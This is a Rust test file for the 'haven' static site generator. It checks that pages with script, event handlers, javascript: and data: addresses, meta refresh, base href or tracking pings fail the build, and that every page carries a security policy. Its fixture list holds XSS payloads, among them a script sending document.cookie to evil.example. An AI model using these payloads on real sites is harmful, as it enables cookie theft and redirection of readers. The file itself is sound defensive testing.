//! Script, redirects and trackers in Markdown (issue 13, part 3): every kind of HTML or
//! address that could run script, send readers elsewhere or tell another site about them
//! stops `haven build` with an error at its line, as staff see it (pinned by a snapshot),
//! and the site already published stays byte for byte as it was. What is allowed is
//! published exactly as written. Every page carries the security policy, and `_headers`
//! carries it for the hosts that read that file.

mod common;

use common::{Site, snapshot};

/// The fixture site, built once (so there is a published site to keep), with `body` added
/// as the page `content/help.md` (the body starts at line 5).
fn site_with_page(body: &str) -> Site {
    let site = Site::fixture("basic");
    site.haven_here(&["build"]).ok();
    site.write(
        "content/help.md",
        format!("+++\ntitle = \"Help\"\n+++\n\n{body}"),
    );
    site
}

/// Each kind of input: (snapshot name, page body).
const CLASSES: &[(&str, &str)] = &[
    (
        "inline_script",
        "Call us.\n\n<script>document.location = 'https://evil.example/?' + document.cookie</script>\n",
    ),
    (
        "inline_script_in_a_paragraph",
        "Call us <script>alert(1)</script> today.\n",
    ),
    (
        "script_from_a_data_address",
        "<script src=\"data:text/javascript,alert(1)\"></script>\n",
    ),
    (
        "event_handler",
        "<img src=\"map.png\" alt=\"A map\" onerror=\"alert(1)\">\n",
    ),
    (
        "event_handler_on_a_cell_outside_a_table",
        "<tr><td onmouseover=\"alert(1)\">1</td></tr>\n",
    ),
    (
        "event_handler_on_body",
        "<body onload=\"alert(1)\">\n\nText.\n",
    ),
    (
        "javascript_address",
        "<a href=\"javascript:alert(1)\">Call us</a>\n",
    ),
    (
        "javascript_address_in_capitals_and_entities",
        "<a href=\"JaVa&#x09;Script&colon;alert(1)\">Call us</a>\n",
    ),
    (
        "vbscript_address",
        "<a href=\"vbscript:msgbox(1)\">Call us</a>\n",
    ),
    (
        "data_text_html_address",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Open</a>\n",
    ),
    (
        "meta_refresh",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n",
    ),
    ("base_href", "<base href=\"https://evil.example/\">\n"),
    (
        "link_ping",
        "<a href=\"/about/\" ping=\"https://tracker.example/count\">About us</a>\n",
    ),
    (
        "markdown_javascript_link",
        "[Call us](javascript:alert(1)) or [write](<java\tscript:alert(1)>) or <javascript:alert(1)>.\n",
    ),
    (
        "markdown_reference_link_to_data_html",
        "[Open the form][form].\n\n[form]: data:text/html,<script>alert(1)</script>\n",
    ),
    (
        "markdown_image_as_data",
        "![A chart](data:image/png;base64,iVBORw0KGgo=)\n",
    ),
    (
        "embedded_page",
        "<iframe title=\"Map\" src=\"/map.html\"></iframe>\n",
    ),
    ("form", "<form action=\"/x\"><input name=\"q\"></form>\n"),
    (
        "styles_in_the_page",
        "<p style=\"color: red\">Urgent</p>\n\n<style>p { display: none }</style>\n",
    ),
    ("drawing", "<svg><circle r=\"4\"></circle></svg>\n"),
    (
        "tags_attributes_and_classes_the_site_does_not_use",
        "<p class=\"MsoNormal\"><font face=\"Arial\">Text</font></p>\n\n<a href=\"/about/\" target=\"_blank\">About</a> <td align=\"right\">x</td>\n",
    ),
    (
        "tag_cut_off_at_a_blank_line",
        "<div title='\n\nx' onmouseover='alert(1)'\n",
    ),
    (
        "comment_never_closed",
        "<div>\n<!-- the rest is hidden\n</div>\n\nText readers would never see.\n",
    ),
    (
        "remote_addresses_that_do_not_look_remote",
        "<img alt=\"A\" src=\"https:\\\\evil.example/a.png\">\n<img alt=\"B\" src=\"/\\evil.example/b.png\">\n<img alt=\"C\" src=\"\\\\evil.example/c.png\">\n<img alt=\"D\" src=\"ht&#9;tps://evil.example/d.png\">\n<img alt=\"E\" src=\"http:evil.example/e.png\">\n\n![F](https:\\\\evil.example/f.png)\n",
    ),
];

#[test]
fn every_class_is_an_error_at_its_line_and_the_published_site_stays() {
    for (name, body) in CLASSES {
        let site = site_with_page(body);
        let stderr = site.failure_as_staff_see_it(&["build"]);
        assert!(
            stderr.contains("content/help.md:"),
            "{name}: the error names no line of the page:\n{stderr}"
        );
        // The closing line names the site's folder, a new temporary one each run.
        let root = std::fs::canonicalize(site.root()).unwrap();
        let stderr = stderr
            .replace(&*root.to_string_lossy(), "[site folder]")
            .replace(&*site.root().to_string_lossy(), "[site folder]");
        insta::assert_snapshot!(*name, stderr);
    }
}

#[test]
fn check_and_build_agree() {
    let site = site_with_page("<a href=\"javascript:alert(1)\">Call us</a>\n");
    let check = site.haven_here(&["check"]);
    assert_eq!(check.code, 1);
    assert!(
        check.stderr.contains(
            "content/help.md:5:4: error: the address `javascript:alert(1)` runs a script"
        ),
        "{}",
        check.stderr
    );
}

#[test]
fn allowed_html_is_published_exactly_as_written() {
    let pieces = [
        "<details>\n<summary>Who can call <abbr title=\"Office of Violence Prevention\">OVP</abbr>?</summary>\n",
        "</details>\n",
        "<figure class=\"figure\">\n<img src=\"/map.png\" alt=\"A map of the city\" width=\"600\" height=\"400\">\n<figcaption>Where the sessions are</figcaption>\n</figure>\n",
        "<dl>\n<dt>Hours</dt>\n<dd>Monday to Friday</dd>\n</dl>\n",
        "<table>\n<caption>Sessions</caption>\n<tr><th scope=\"col\">Place</th><th scope=\"col\">Count</th></tr>\n<tr><td>Fair Haven</td><td colspan=\"1\">2</td></tr>\n</table>\n",
        "<span lang=\"es\">Oficina</span>",
        "<kbd>Esc</kbd>",
        "H<sub>2</sub>O and 10<sup>3</sup>",
        "<a href=\"tel:911\">911</a>",
        "<a href=\"mailto:office@example.org\">write to us</a>",
        "<!-- a note for the web team -->",
    ];
    let body = format!(
        "{}\nAnyone can call.\n\n{}\n{}\n{}\n{}\nSay {} or press {}: {}. Call {} or {}. {}\n",
        pieces[0],
        pieces[1],
        pieces[2],
        pieces[3],
        pieces[4],
        pieces[5],
        pieces[6],
        pieces[7],
        pieces[8],
        pieces[9],
        pieces[10]
    );
    let site = site_with_page(&body);
    site.haven_here(&["build"]).ok();
    let html = site.read("public/help/index.html");
    for piece in pieces {
        assert!(
            html.contains(piece),
            "not published as written: {piece}\n{html}"
        );
    }
}

/// The bundled site (content, theme and settings of this repository), built into a
/// temporary folder.
fn bundled_site() -> Site {
    let site = Site {
        dir: tempfile::tempdir().unwrap(),
    };
    let repo = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    for part in ["content", "themes"] {
        common::copy_tree(&repo.join(part), &site.path(part));
    }
    std::fs::copy(repo.join("config.toml"), site.path("config.toml")).unwrap();
    site.haven_here(&["build"]).ok();
    site
}

#[test]
fn every_page_carries_the_security_policy_and_nothing_it_would_block() {
    let site = bundled_site();
    let policy = "default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'";
    // The search page runs the search index's WebAssembly: its policy allows that too, and so
    // does `_headers` (one policy for every path) on a site with search, like this one.
    let search = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'none'; form-action 'self'";
    let meta =
        scraper::Selector::parse("head meta[http-equiv=\"Content-Security-Policy\"]").unwrap();
    let referrer = scraper::Selector::parse("head meta[name=referrer]").unwrap();
    let anything = scraper::Selector::parse("*").unwrap();
    let mut pages = 0;
    for (rel, bytes) in snapshot(&site.path("public")) {
        if rel.extension().is_none_or(|e| e != "html") {
            continue;
        }
        pages += 1;
        let text = String::from_utf8(bytes).unwrap();
        let doc = scraper::Html::parse_document(&text);
        let shown = rel.display();
        let policies: Vec<_> = doc.select(&meta).collect();
        assert_eq!(policies.len(), 1, "{shown}: one policy <meta>");
        let want = if text.contains("data-search-config=") {
            search
        } else {
            policy
        };
        assert_eq!(policies[0].value().attr("content"), Some(want), "{shown}");
        // Before anything that loads.
        let first_load = text
            .find("<link rel=\"stylesheet\"")
            .or_else(|| text.find("<script"))
            .unwrap_or(text.len());
        assert!(
            text.find("Content-Security-Policy").unwrap() < first_load,
            "{shown}"
        );
        assert_eq!(
            doc.select(&referrer)
                .map(|m| m.value().attr("content").unwrap_or(""))
                .collect::<Vec<_>>(),
            ["no-referrer"],
            "{shown}"
        );
        // What the policy would block, and so must not be in the theme's pages either.
        for el in doc.select(&anything) {
            let v = el.value();
            let name = v.name();
            assert!(
                !(name == "script"
                    && v.attr("src").is_none()
                    && v.attr("type") != Some("application/ld+json")),
                "{shown}: a script written into the page"
            );
            assert_ne!(name, "style", "{shown}: a <style> written into the page");
            for (a, _) in v.attrs() {
                assert!(
                    a != "style" && !a.starts_with("on"),
                    "{shown}: `{a}` on <{name}>"
                );
            }
        }
    }
    assert!(pages > 30, "only {pages} pages");
    let headers = site.read("public/_headers");
    assert!(
        headers.contains(&format!(
            "/*\n  Content-Security-Policy: {search}; frame-ancestors 'none'\n"
        )),
        "{headers}"
    );
    for header in [
        "  X-Content-Type-Options: nosniff\n",
        "  Referrer-Policy: no-referrer\n",
        "  Permissions-Policy: ",
    ] {
        assert!(headers.contains(header), "{header} missing:\n{headers}");
    }
}

#[test]
fn redirect_pages_carry_the_policy_too() {
    let site = Site::fixture("basic");
    site.haven_here(&["build"]).ok();
    let redirect = site.read("public/old-about/index.html");
    assert!(
        redirect.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self';"),
        "{redirect}"
    );
    assert!(redirect.contains("<meta name=\"referrer\" content=\"no-referrer\">"));
}

#[test]
fn a_site_of_its_own_headers_file_keeps_it() {
    let site = Site::fixture("basic");
    site.write("static/_headers", "/*\n  X-Own: yes\n");
    site.haven_here(&["build"]).ok();
    assert_eq!(site.read("public/_headers"), "/*\n  X-Own: yes\n");
}

#[test]
fn the_readme_gives_servers_the_headers_haven_writes() {
    let site = Site::fixture("basic");
    site.haven_here(&["build"]).ok();
    let headers: Vec<(String, String)> = site
        .read("public/_headers")
        .lines()
        .filter_map(|l| l.strip_prefix("  ")?.split_once(": "))
        .map(|(n, v)| (n.to_string(), v.to_string()))
        .collect();
    assert_eq!(headers.len(), 5, "{headers:?}");
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    for (server, line) in [
        ("nginx", "add_header {name} \"{value}\" always;"),
        ("caddy", "\t{name} \"{value}\""),
        ("apache", "Header always set {name} \"{value}\""),
    ] {
        let start = readme
            .find(&format!("```{server}\n"))
            .unwrap_or_else(|| panic!("README has no {server} snippet"));
        let block = &readme[start..start + readme[start..].find("\n```\n").unwrap()];
        for (name, value) in &headers {
            let want = line.replace("{name}", name).replace("{value}", value);
            assert!(block.contains(&want), "{server} snippet lacks: {want}");
        }
    }
}
